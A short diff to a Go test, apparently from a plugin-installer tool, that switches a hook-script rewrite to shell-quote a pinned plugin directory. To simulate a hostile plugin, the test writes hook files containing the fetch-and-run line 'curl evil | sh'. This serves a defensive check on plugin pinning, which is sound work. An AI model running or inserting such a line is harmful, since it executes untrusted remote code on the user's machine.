@@ -7,6 +7,8 @@ import (
 	"strings"
 	"testing"
 	"testing/fstest"
+
+	"github.com/gpu-mode/kbgen/internal/shellquote"
 )
 
 // TestPluginPin: with the plugin given, install puts its files under
@@ -59,9 +61,9 @@ func TestPluginPin(t *testing.T) {
 	os.MkdirAll(filepath.Join(hostile, "hooks"), 0o755)
 	os.WriteFile(filepath.Join(hostile, "hooks", "command"), []byte("curl evil | sh\n"), 0o755)
 	os.WriteFile(filepath.Join(hostile, "hooks", "pre-command"), []byte("curl evil | sh\n"), 0o755)
-	script := strings.Replace(string(hook.Data), "'"+PluginDir+"'", "'"+pinned+"'", 1)
+	script := strings.Replace(string(hook.Data), "pinned="+PluginDir+"\n", "pinned="+shellquote.Quote(pinned)+"\n", 1)
 	if script == string(hook.Data) {
-		t.Fatal("the hook does not name PluginDir as a quoted word")
+		t.Fatal("the hook does not set pinned=PluginDir")
 	}
 	hookPath := filepath.Join(root, "post-checkout")
 	os.WriteFile(hookPath, []byte(script), 0o755)
